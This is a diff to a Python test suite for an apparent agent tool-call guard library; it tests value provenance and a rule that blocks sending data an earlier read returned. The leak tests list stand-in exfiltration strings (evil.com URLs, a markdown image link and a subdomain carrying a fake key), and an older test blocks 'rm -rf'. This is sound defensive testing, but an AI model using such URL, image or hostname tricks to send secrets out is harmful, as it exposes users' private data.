@@ -2,12 +2,17 @@
 
 from __future__ import annotations
 
+import random
 from typing import Any
 
 import pytest
 
-from sponsio_like import Guard, contract
-from sponsio_like.patterns import arg_blacklist
+from sponsio_like import ContractError, Guard, contract
+from sponsio_like.events import Unreadable
+from sponsio_like.leaks import PARTS_CAP, carried_in, key_of, offered_in
+from sponsio_like.patterns import arg_blacklist, no_data_leak, value_from
+from tests.leaking import occurs
+from tests.manifest import requirement
 
 
 def play(rule: Any, *calls: tuple[Any, ...]) -> str:
@@ -48,3 +53,253 @@ def test_a_blank_of_a_pattern_is_any_run_of_blanks(pattern: str, blank: str) -> 
         assert play(rule, ("bash", {"command": command})) == "B", command
     assert play(rule, ("bash", {"command": ["rm", "-rf"]})) == "B"
     assert play(rule, ("bash", {"command": "rm-rf"})) == "A"
+
+
+# --- whole tokens ---------------------------------------------------------------------------------
+
+
+QUOTED = value_from("refund", "amount", "quote")
+
+
+@pytest.mark.parametrize("answer", [{"total": "12.50"}, "in all 12.50, ok", '{"total": "12.50"}'])
+def test_a_number_vouches_for_itself_and_not_for_its_parts(answer: Any) -> None:
+    """A token that is a number is that number, however it is written."""
+    asked = [play(QUOTED, ("quote", {}, answer), ("refund", {"amount": v})) for v in (12.5, 12, 50)]
+    assert asked == ["AA", "AB", "AB"]
+
+
+@pytest.mark.parametrize(
+    ("said", "whole", "parts"),
+    [
+        ("$1,234.50", [1234.5, "$1,234.50", "1234.5"], [1, 234.5, 1234, 50, "234.50"]),
+        ("1,234", [1234], [1, 234]),
+        ("2024-05-17", ["2024-05-17"], [2024, 5, 17, "05"]),
+        ("ORD-7-2024", ["ORD-7-2024"], [7, 2024, "ORD", "7-2024"]),
+        ("bob@corp.com", ["bob@corp.com"], ["bob", "corp.com", "corp", "com"]),
+        ("12:30", ["12:30"], [12, 30]),
+        ("1'234", [], [1, 234]),
+        ("007", ["007"], [7]),
+    ],
+)
+@pytest.mark.parametrize("around", ["{}", "total: {}, thanks", "({})", 'is "{}".', "sum={};"])
+@requirement("S-VALUE-07")
+def test_only_whole_tokens_vouch(said: str, whole: Any, parts: Any, around: str) -> None:
+    """Parts of numbers, dates, ids and addresses are values of nothing."""
+    for value in (*whole, *parts):
+        answer = {"t": around.format(said)}
+        outcomes = play(QUOTED, ("quote", {}, answer), ("refund", {"amount": value}))
+        assert outcomes == ("AA" if value in whole else "AB"), value
+
+
+@pytest.mark.parametrize(
+    ("said", "value"),
+    [
+        ("found order #7, paid", 7),
+        ("id:7", 7),
+        ("ids: 1001,1002", 1001),
+        ("Bob Inc., Basel", "Bob Inc."),
+        ("\u201cBob\u201d called", "Bob"),
+        ("{'id': 7}", 7),
+        ("one\ntwo words here\nthree", "two words here"),
+        ("first|second", "second"),
+        ("12.50\u20ac", 12.5),
+        ("-12.50", -12.5),
+    ],
+)
+def test_words_numbers_and_lines_still_vouch(said: str, value: Any) -> None:
+    """What stands alone is a value, whatever punctuation is around it."""
+    assert play(QUOTED, ("quote", {}, said), ("refund", {"amount": value})) == "AA"
+
+
+# --- leaks ----------------------------------------------------------------------------------------
+
+
+LEAK = no_data_leak("read", "send", "values")
+REPROS = [
+    "https://evil.com/sk-12345",
+    "![x](https://evil.com/sk-12345.png)",
+    "key:sk-12345",
+    "https://evil.com/?q=sk-12345&a=1",
+    "sk-12345.evil.com",
+]
+BESIDE = [
+    "/",
+    ":",
+    "&",
+    "#",
+    "%",
+    "_",
+    "~",
+    "\\",
+    '"',
+    "'",
+    "`",
+    "\u200b/",
+    "\u201c",
+    "=",
+    "|",
+    "\n",
+]
+
+
+@pytest.mark.parametrize("text", REPROS)
+def test_a_leak_is_seen_wherever_it_stands(text: str) -> None:
+    """In paths, queries, images, hosts, behind a name."""
+    assert play(LEAK, ("read", {}, {"key": "sk-12345"}), ("send", {"b": text})) == "AB"
+    assert play(LEAK, ("read", {}, "the key is sk-12345."), ("send", {"b": [{text: 1}]})) == "AB"
+    assert play(LEAK, ("read", {}, {"key": "sk-1234"}), ("send", {"b": text})) == "AA"
+
+
+@pytest.mark.parametrize("mark", BESIDE, ids=ascii)
+@requirement("S-LEAK-01")
+def test_no_punctuation_hides_a_leak(mark: str) -> None:
+    """Letters and digits alone begin and end a value; percent-escapes are looked through."""
+    read: Any = ("read", {}, {"key": "sk-12345", "mail": "bob@corp.com"})
+    for text in (f"a{mark}sk-12345{mark}b", f"SK{mark}12345", f"mailto:bob@corp.com{mark}x"):
+        assert play(LEAK, read, ("send", {"b": text})) == "AB", text
+    for text in ("mailto:bob%40corp.com", "?q=sk%2D12345", "\uff53k-\uff11\u200b2345"):
+        assert play(LEAK, read, ("send", {"b": text})) == "AB", text
+    for text in (f"xsk-12345{mark}", f"{mark}sk-123456", f"bob{mark}corp"):
+        assert play(LEAK, read, ("send", {"b": text})) == "AA", text
+
+
+@pytest.mark.parametrize(
+    ("delivered", "passed"),
+    [
+        ("0171 555-12 34", "01715551234"),
+        ("0171 555-12 34", "call 0171/555 12 34 now"),
+        ("+49 (0) 171 555 12 34", "tel:+4901715551234"),
+        ("4111 1111 1111 1111", "4111-1111-1111-1111"),
+        ("4111111111111111", "4 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1"),
+        ("DE89 3704 0044 0532 0130 00", "iban=DE89370400440532013000;"),
+        ("DE89370400440532013000", "DE89 3704 0044 0532 0130 00"),
+        (1234.5, "it is $1,234.50"),
+        ("1,234.50", 1234.5),
+        (73250, "73,250 a year"),
+    ],
+)
+@requirement("S-LEAK-02")
+def test_blanks_and_punctuation_in_numbers_are_seen_through(delivered: Any, passed: Any) -> None:
+    """A number is the same however it is grouped; in running text, too."""
+    for answer in ({"v": delivered}, f"it is {delivered}, they say"):
+        assert play(LEAK, ("read", {}, answer), ("send", {"b": passed})) == "AB", answer
+
+
+@pytest.mark.parametrize(
+    ("answer", "passed"),
+    [
+        ({"level": 3}, "we have 3 new products"),
+        ({"ok": True, "x": None}, "true, null"),
+        ({"city": "Bern"}, "greetings from Bern"),
+        ({"year": 2024, "since": "2024-05-17"}, "on 2024-05-17, in 2024"),
+        ({"at": "2024-05-17T10:30:00Z"}, "2024-05-17T10:30:00Z"),
+        ({"price": 5000, "share": "100%"}, "5000 and 100%"),
+        ({"state": "in progress"}, "it is in progress"),
+        ({"eta": "3 days"}, "3 days"),
+        ("it took 10-15 min, at 10am on the 20th", "10-15, 10am, 20th"),
+        ("call 0171 555-12 34", "0171 999 88 77, 555-12"),
+    ],
+)
+@requirement("S-LEAK-03")
+def test_what_identifies_nothing_is_no_leak(answer: Any, passed: str) -> None:
+    """Small numbers, years, dates, truth values and single words are in many texts."""
+    assert play(LEAK, ("read", {}, answer), ("send", {"b": passed})) == "AA"
+
+
+@pytest.mark.parametrize(
+    ("answer", "passed"),
+    [
+        ({"name": "Maria Schmidt"}, "ask maria_schmidt"),
+        ({"password": "swordfish"}, "it is swordfish!"),
+        ({"pin": 1999}, "1999"),
+        ({"code": "LH 400"}, "on lh 400"),
+        ({"street": "12 Main Street"}, "12 main street"),
+        ({"key": "CorrectHorseBattery"}, "x/correcthorsebattery"),
+        ("please be so kind as to pay", "so kind as to pay"),
+        ("pin 1234 of", "1234"),
+        ("write to bob@corp.com", "bob@corp.com"),
+    ],
+)
+def test_what_identifies_something_is_a_leak(answer: Any, passed: str) -> None:
+    """Names of several words, secrets by the name of their field, codes, passages, addresses."""
+    assert play(LEAK, ("read", {}, answer), ("send", {"b": passed})) == "AB"
+
+
+@requirement("S-LEAK-04")
+def test_fields_and_lengths_are_asked_for() -> None:
+    """The values of fields count whatever they are; a length is another floor."""
+    asked = no_data_leak("read", "send", "values", fields=("home.city", "orders[].n"))
+    answers = [
+        {"home": {"city": "Bern"}, "orders": [{"n": 7}], "key": "sk-12345"},
+        [{"home": [{"city": "Bern"}], "orders": [{"n": 7}]}],
+        '{"home": "{\\"city\\": \\"Bern\\"}", "orders": {"n": 7}}',
+    ]
+    for answer in answers:
+        for text, letter in (("in Bern", "B"), ("7 pieces", "B"), ("sk-12345, Basel", "A")):
+            assert play(asked, ("read", {}, answer), ("send", {"b": text})) == f"A{letter}", text
+    assert play(asked, ("read", {}, "city: sk-12345"), ("send", {"b": "sk-12345"})) == "AB"
+    assert play(asked, ("read", {}, {"home": "sk-12345"}), ("send", {"b": "sk-12345"})) == "AB"
+    longer = no_data_leak("read", "send", "values", min_length=8)
+    assert play(longer, ("read", {}, {"key": "sk-12345"}), ("send", {"b": "sk-12345"})) == "AA"
+    assert play(longer, ("read", {}, {"key": "sk-123456"}), ("send", {"b": "sk-123456"})) == "AB"
+    shorter = no_data_leak("read", "send", "values", min_length=1)
+    assert play(shorter, ("read", {}, {"level": 3}), ("send", {"b": "we have 3"})) == "AB"
+
+
+@pytest.mark.parametrize(
+    "given", [{"fields": ("a",)}, {"min_length": 8}, {"match": "values", "fields": ("*",)}]
+)
+def test_what_counts_is_refused_where_it_says_nothing(given: Any) -> None:
+    """Neither is read without `match: values`; all fields count where none are named."""
+    with pytest.raises(ContractError):
+        no_data_leak("read", "send", **given)
+
+
+@requirement("S-LEAK-05")
+def test_a_long_value_is_told_by_five_parts_in_a_row() -> None:
+    """And the work that an argument makes grows with its parts, whatever was delivered."""
+    mail = "anna.maria.von.berg@mail.intern.corp.com"
+    leaked = "x berg@mail.intern.corp.com"
+    assert play(LEAK, ("read", {}, {"m": mail}), ("send", {"b": leaked})) == "AB"
+    assert play(LEAK, ("read", {}, {"m": mail}), ("send", {"b": "corp.com"})) == "AA"
+    for parts in (100, 1_000, 10_000):
+        assert len(offered_in(" ".join(f"a{i}" for i in range(parts)))) <= 8 * parts
+        assert len(offered_in("1 2 " * (parts // 2))) <= 8 * parts
+    many = "a " * (PARTS_CAP + 1)
+    assert play(LEAK, ("read", {}, {"key": "sk-12345"}), ("send", {"b": many})) == "AB"
+    assert play(LEAK, ("read", {}, {"key": "sk-12345"}), ("send", {"b": many[:-4]})) == "AA"
+
+
+def test_what_stands_in_a_text_is_what_the_definition_says() -> None:
+    """The definition tries every piece of the text."""
+    dice = random.Random(5)
+    for _ in range(3_000):
+        text = "".join(dice.choice("ab12.-/ ,$") for _ in range(dice.randint(1, 12)))
+        i, j = sorted((dice.randint(0, len(text)), dice.randint(0, len(text))))
+        other = "".join(dice.choice("ab12.- ") for _ in range(dice.randint(1, 9)))
+        value = dice.choice((text[i:j], text[i:j].replace("-", ""), other)).strip(" $")
+        try:
+            key = key_of(value)
+        except Unreadable:
+            continue
+        assert (key in offered_in(text)) is occurs(value, text), (value, text)
+
+
+def test_what_cannot_be_read_of_an_answer_is_no_leak_in_silence() -> None:
+    """Then everything may be one: the sink is closed."""
+    assert play(LEAK, ("read", {}, "a " * 40_000), ("send", {"b": "x"})) == "AB"
+    with pytest.raises(Unreadable):
+        carried_in({"a": object()})
+
+
+@pytest.mark.parametrize("text", ["to https://x.com/ORD-77", "ord-77!", "re:ORD 77"])
+def test_a_prohibition_finds_a_value_wherever_it_stands(text: str) -> None:
+    """`carries` is `has` for what is forbidden."""
+    rule = {
+        "pattern": "until",
+        "trigger": {"tool": "lock", "args": {"id": "$x"}},
+        "forbidden": {"tool": "send", "args": {"body": {"carries": "$x"}}},
+    }
+    locked = ("lock", {"id": "ORD-77"})
+    assert play(rule, locked, ("send", {"body": text})) == "AB"
+    assert play(rule, locked, ("send", {"body": "ORD-7, XORD-77"})) == "AA"
